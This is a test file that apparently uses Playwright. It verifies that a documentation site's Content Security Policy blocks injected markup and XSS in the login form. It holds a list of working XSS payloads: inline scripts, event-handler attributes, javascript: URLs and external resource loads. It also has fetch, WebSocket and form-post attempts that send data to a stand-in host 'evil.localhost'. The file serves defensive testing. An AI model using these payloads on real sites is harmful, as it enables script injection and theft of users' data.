// @module-tag chromium
import { createHash } from 'node:crypto';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { signInWithBrowser } from '../../testing/browser-sign-in.ts';
import { launchChromium } from '../../testing/chromium.ts';
import { type OtherSite, startOtherSite } from '../../testing/other-site.ts';
import { fixtureEntries } from '../../testing/release.ts';
import { startServer, type TestServer } from '../../testing/server.ts';

/** The only inline script of the build. The manifest has its hash. */
const ownScript = 'window.own = true';
const hash = `'sha256-${createHash('sha256').update(ownScript).digest('base64')}'`;

/**
 * Markup that runs `pwned()` or calls another site if the policy allows it. `{evil}` is replaced with that
 * site.
 */
const payloads: Readonly<Record<string, string>> = {
  'an inline script': '<script>pwned(1)</script>',
  'an inline script with a nonce': '<script nonce="x">pwned(2)</script>',
  'an inline module': '<script type="module">pwned(3)</script>',
  'a script that differs by a blank': `<script> ${ownScript};pwned(4)</script>`,
  'a script of another site': '<script src="{evil}/script.js"></script>',
  'a script as data': '<script src="data:text/javascript,pwned(6)"></script>',
  'a picture that fails': '<img src="/nothing" onerror="pwned(7)">',
  'a drawing': '<svg onload="pwned(8)"></svg>',
  'a drawing with a script': '<svg><script>pwned(9)</script></svg>',
  'a focused field': '<input autofocus onfocus="pwned(10)">',
  'an opened detail': '<details open ontoggle="pwned(11)"><summary>x</summary></details>',
  'a frame with a document of its own': '<iframe srcdoc="<script>parent.pwned(12)</script>"></iframe>',
  'a frame of script': '<iframe src="javascript:parent.pwned(13)"></iframe>',
  'a style of another site': '<link rel="stylesheet" href="{evil}/style.css">',
  'a style that loads':
    '<style>@import "{evil}/import.css"; body { background: url({evil}/picture.png) }</style>',
  'a style on an element': '<p style="background: url({evil}/attribute.png)">x</p>',
  'an object': '<object data="{evil}/object.svg" type="image/svg+xml"></object>',
  'a plug-in': '<embed src="{evil}/embed.svg" type="image/svg+xml">',
  'a font': '<style>@font-face { font-family: x; src: url({evil}/font.woff2) } p { font-family: x }</style>',
  'a module ahead of time': '<link rel="modulepreload" href="{evil}/module.js">',
  'a picture over plain HTTP': '<img src="{evil}/picture.gif">',
  'a sound over plain HTTP': '<audio src="{evil}/sound.mp3" autoplay></audio>',
  'a frame over plain HTTP': '<iframe src="{evil}/frame.html"></iframe>',
};

const writePage = (evil: string) =>
  `<!doctype html><html><head><base href="${evil}/based/"><script>${ownScript}</script></head><body>
   <h1>Article</h1>${Object.values(payloads).join('\n').replaceAll('{evil}', evil)}
   <a id="script" href="javascript:pwned(14)">script</a><img id="based" src="based.png">
   <form id="away" method="post" action="${evil}/form"><input name="password" value="typed"></form>
   </body></html>`;

let browser: Browser;
let server: TestServer;
let origin: string;
let other: OtherSite;
let evil: string;
let context: BrowserContext;
beforeAll(async () => {
  other = await startOtherSite((request, response) => {
    response.setHeader('access-control-allow-origin', '*');
    if (request.url === '/unprotected') response.setHeader('content-type', 'text/html').end(writePage(evil));
    else if (request.url === '/script.js')
      response.setHeader('content-type', 'text/javascript').end('pwned(5)');
    else response.setHeader('content-type', 'text/css').end('');
  });
  evil = `http://evil.localhost:${other.port}`;
  server = await startServer({
    environment: { LOG_LEVEL: 'error' },
    release: {
      entries: [...fixtureEntries, { url: '/docs/Injected', content: writePage(evil) }],
      change: (manifest) => ({ ...manifest, scriptHashes: [hash] }),
    },
  });
  ({ origin } = await server.listen());
  browser = await launchChromium();
  context = await browser.newContext();
  await (await signInWithBrowser(context, origin)).close();
});
afterAll(async () => {
  await browser.close();
  await server.close();
  await other.close();
});
afterEach(async () => {
  await Promise.all(context.pages().map((each) => each.close()));
});

/** Opens the page. Returns what has run in it so far, and what it has requested from the other site. */
async function open(address: string) {
  const openedPage = await context.newPage();
  await openedPage.addInitScript(() => {
    const runScripts: number[] = [];
    const refusedUrls: string[] = [];
    Object.assign(window, {
      ran: runScripts,
      refused: refusedUrls,
      pwned: (which: number) => runScripts.push(which),
    });
    document.addEventListener('securitypolicyviolation', (event) =>
      refusedUrls.push(event.effectiveDirective),
    );
  });
  const before = other.requests.length;
  await openedPage.goto(address, { waitUntil: 'load' });
  await openedPage.locator('#script').click({ noWaitAfter: true });
  const isOwn = await openedPage.evaluate(() => Reflect.get(window, 'own') === true);
  const createCount = (name: 'ran' | 'refused') => async () =>
    openedPage.evaluate((list) => [...new Set(Reflect.get(window, list) as unknown[])].sort(), name);
  const listOtherRequests = () =>
    other.requests.slice(before).filter((request) => request !== 'GET /unprotected');
  return {
    opened: openedPage,
    isOwn,
    ran: createCount('ran'),
    refused: createCount('refused'),
    otherRequests: listOtherRequests,
  };
}

test('without the policy, nearly all of it works: the attacks are real', async () => {
  const { ran, otherRequests, isOwn } = await open(`${evil}/unprotected`);
  expect(isOwn).toBe(true);
  await expect.poll(async () => (await ran()).length).toBeGreaterThan(8);
  await expect.poll(() => otherRequests().length).toBeGreaterThan(8);
});

test('in an article, no injected script runs and no other site is asked; the page’s own script runs', async () => {
  const { opened, ran, otherRequests, isOwn, refused } = await open(`${origin}/docs/Injected`);
  expect(isOwn).toBe(true);
  // The browser reports each violation in a task of its own.
  await expect
    .poll(refused)
    .toEqual(
      'base-uri frame-src img-src media-src object-src script-src-attr script-src-elem style-src-attr style-src-elem'.split(
        ' ',
      ),
    );
  expect(await ran()).toEqual([]);
  expect(otherRequests()).toEqual([]);
  await opened.locator('#away').evaluate((form) => form instanceof HTMLFormElement && form.submit());
  await expect.poll(refused).toContain('form-action');
  expect(other.requests).not.toContain('POST /form');
});

test("even a script that runs can't make code out of text, nor send what it reads to another site", async () => {
  const { opened } = await open(`${origin}/docs/Injected`);
  const results = await opened.evaluate(async (address) => {
    const describeOutcome = async (attempt: () => unknown) => {
      try {
        await attempt();
        return 'done';
      } catch {
        return 'refused';
      }
    };
    return {
      fetch: await describeOutcome(() => fetch(`${address}/stolen`, { mode: 'no-cors' })),
      socket: await describeOutcome(
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket(`${address.replace('http', 'ws')}/stolen`);
            socket.onopen = resolve;
            socket.onerror = reject;
          }),
      ),
      worker: await describeOutcome(
        () =>
          new Promise((resolve, reject) => {
            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
            worker.onmessage = resolve;
            worker.onerror = reject;
          }),
      ),
      cookie: document.cookie,
    };
  }, evil);
  expect(results).toEqual({ fetch: 'refused', socket: 'refused', worker: 'refused', cookie: '' });
  const text = await opened.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'pwned(20)';
    document.body.append(script);
    const button = document.createElement('button');
    button.setAttribute('onclick', 'pwned(21)');
    document.body.append(button);
    button.click();
    setTimeout('pwned(22)');
    return new Promise((resolve) => setTimeout(() => resolve(Reflect.get(window, 'ran')), 0));
  });
  expect(text).toEqual([]);
  expect(other.requests.filter((request) => request.includes('stolen'))).toEqual([]);
});

test('shows as text whatever a visitor types into a field of the login form', async () => {
  const typedMarkup = `"><img src=x onerror=pwned(30)><script>pwned(31)</script>`;
  const login = await browser.newPage();
  await login.goto(`${origin}/login?next=/docs/${encodeURIComponent(typedMarkup)}`);
  await login.locator('[name=email]').fill(typedMarkup);
  await login.locator('[name=password]').fill('wrong');
  await login.locator('[name=password]').press('Enter');
  await login.locator('[role=alert]:not(:empty)').waitFor();
  await expect.poll(() => login.locator('[name=email]').inputValue()).toBe(typedMarkup);
  expect(await login.locator('img').count()).toBe(0);
  await login.context().close();
});
